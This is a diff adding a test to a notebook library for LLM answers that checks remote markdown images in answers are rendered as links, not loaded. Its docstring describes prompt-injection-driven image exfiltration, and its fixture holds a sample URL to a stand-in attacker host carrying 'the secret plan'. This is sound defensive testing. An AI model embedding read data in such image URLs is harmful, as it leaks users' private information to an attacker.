@@ -439,6 +439,32 @@ def test_links_open_in_a_new_tab_and_bad_schemes_are_neutralised(comms):
         assert "&lt;a href=" in v  # raw HTML stays text
 
 
+def test_an_answers_remote_image_is_a_link_not_a_request(comms):
+    """Markdown image exfiltration: an answer steered by a hostile document can put what it read
+    into an image URL, and showing the card (or opening the saved notebook) sent it. A remote
+    image is now a link; an inline data image still shows; configure(remote_images=True) loads
+    remote ones, never with a referrer."""
+    import llmcells
+
+    leak = "https://attacker.example/p.png?q=the%20secret%20plan"
+    text = (f"Summary done. ![status]({leak}) ![]( //attacker.example/x.png ) "
+            "![dot](data:image/png;base64,iVBORw0KGgo=)")
+    h = open_display("ask", [info()], "notebook")
+    o = h.observers[0]
+    o.on_text(text)
+    o.on_finish(Result(text=text, status="ok"))
+    for v in (o.body.value, render_markdown(text), Result(text=text, status="ok")._repr_html_()):
+        imgs = re.findall(r"<img[^>]*>", v)
+        assert len(imgs) == 1 and 'src="data:image/png;base64,' in imgs[0], v
+        assert f'href="{leak}"' in v and "[image: status]" in v
+    try:
+        llmcells.configure(remote_images=True)
+        v = render_markdown(text)
+        assert f'<img referrerpolicy="no-referrer" src="{leak}"' in v
+    finally:
+        llmcells.configure(remote_images=False)
+
+
 def test_tables_get_a_scrolling_wrapper_and_code_keeps_its_lines():
     from llmcells.display.style import CARD_CSS
 
